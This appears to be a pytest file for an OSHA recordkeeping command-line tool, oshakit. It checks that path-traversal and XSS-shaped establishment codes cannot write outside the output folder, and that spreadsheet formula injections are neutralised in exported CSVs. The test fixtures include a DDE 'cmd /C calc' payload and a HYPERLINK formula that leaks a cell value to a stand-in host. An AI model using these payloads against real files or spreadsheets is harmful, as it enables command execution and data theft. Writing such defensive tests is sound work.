"""Untrusted text stays inert: formula-shaped cells are neutralised in every CSV a person
opens (and kept exactly in the ITA upload files), markup-shaped and path-shaped establishment
codes are refused before anything is written, and no command writes outside ``--out``."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest

from oshakit.cli import main

YEAR = 2025


def bundle_with(tmp_path: Path, sample_dir: Path, old: str, new: str) -> Path:
    """The sample with every ``old`` in its files replaced by ``new`` (codes, case numbers)."""
    folder = tmp_path / "in" / "bundle"
    shutil.copytree(sample_dir, folder)
    for path in folder.glob("*.csv"):
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace(old, new), encoding="utf-8")
    return folder


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def commands(bundle: Path, out: Path) -> dict[str, list[str]]:
    b, o = str(bundle), str(out)
    return {
        "log": ["log", b, "--year", str(YEAR), "--out", f"{o}/log.csv"],
        "reconcile": ["reconcile", b, "--out", o],
        "export-ita": ["export-ita", b, "--year", str(YEAR), "--out", o],
        "forms": ["forms", b, "--year", str(YEAR), "--out", o, "--representative-copy"],
        "ita submit": ["ita", "submit", b, "--year", str(YEAR), "--dry-run", "--case-data",
                       "all", "--out", o],
        "inspect": ["inspect", b, "--rejects", f"{o}/rejects.csv"],
        "validate": ["validate", b, "--out", o, "--no-docs"],
    }


@pytest.mark.parametrize("code", ["../../escape", "/tmp/oshakit-escape-test",
                                  "<img src=x onerror=alert(1)>"])
def test_path_and_markup_shaped_codes_never_write_outside_out(tmp_path, sample_dir, code,
                                                              capsys):
    bundle = bundle_with(tmp_path, sample_dir, "PLT03", code)
    shutil.rmtree("/tmp/oshakit-escape-test", ignore_errors=True)
    before = files_under(tmp_path)
    for name, argv in commands(bundle, tmp_path / "work" / "out").items():
        (tmp_path / "work" / "out").mkdir(parents=True, exist_ok=True)
        code_ = main(argv)
        printed = capsys.readouterr()
        if name == "forms":  # the only command that builds folders from the code
            assert code_ == 2 and "cannot be used as a file name" in printed.err, name
        else:
            assert code_ in (0, 1), (name, printed.err)
        new = files_under(tmp_path) - before
        outside = [p for p in new if not p.is_relative_to(tmp_path / "work" / "out")]
        assert outside == [], name
        assert not Path("/tmp/oshakit-escape-test").exists()
        assert not (tmp_path / "escape").exists() and not (tmp_path / "work" / "escape").exists()


def test_the_batch_refuses_a_path_shaped_code_before_writing(tmp_path, sample_dir, capsys):
    bundle = bundle_with(tmp_path, sample_dir, "PLT03", "../../escape")
    out = tmp_path / "work" / "reports"
    assert main(["run", str(bundle), "--year", str(YEAR), "--out", str(out), "--jobs", "1",
                 "--no-progress"]) == 2
    assert "cannot be used as a file name" in capsys.readouterr().err
    outside = [p for p in files_under(tmp_path / "work") if not p.is_relative_to(out)]
    assert outside == [] and not (tmp_path / "escape").exists()
    # nothing of a unit was written, only the year's saved result (confidential)
    assert all("confidential" in p.relative_to(out).parts for p in files_under(out))


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0"]  # (tab and CR: the loader strips them)


def test_formula_shaped_text_is_inert_in_every_csv_and_exact_in_the_ita_upload(
        tmp_path, sample_dir):
    folder = tmp_path / "bundle"
    shutil.copytree(sample_dir, folder)
    enc = pd.read_csv(folder / "encounters_incidents.csv", dtype=str, keep_default_na=False)
    targets = enc.index[enc["incidents.inc_datetime"].str.startswith(str(YEAR))
                        & (enc["incidents.osha_completed_dt"] != "")
                        & (enc["incidents.osha_work_related"] == "Yes")][:len(FORMULAS)]
    for i, formula in zip(targets, FORMULAS, strict=True):
        enc.loc[i, "incidents.loc_description"] = formula
        enc.loc[i, "incidents.comment_activity"] = formula
    enc.to_csv(folder / "encounters_incidents.csv", index=False)
    out = tmp_path / "out"
    assert main(["reconcile", str(folder), "--year", str(YEAR), "--out", str(out / "rec")]) \
        in (0, 1)
    assert main(["export-ita", str(folder), "--year", str(YEAR), "--out", str(out / "ita")]) \
        in (0, 1)
    for path in sorted(out.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        if path.name in ("ita_case_data.csv", "ita_300a.csv"):
            continue
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                 and not _number(c)]
        assert risky == [], path.name
    with open(out / "rec" / "log.csv", newline="", encoding="utf-8") as f:
        locations = [row["location"] for row in csv.DictReader(f)]
    assert {"'" + f for f in FORMULAS} <= set(locations)
    with open(out / "ita" / "confidential" / "ita_case_data.csv", newline="",
              encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    # the ITA upload keeps OSHA's text exactly (read by OSHA's system, not a spreadsheet)
    assert set(FORMULAS) <= {r["incident_location"] for r in rows}
    assert set(FORMULAS) <= {r["nar_before_incident"] for r in rows}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
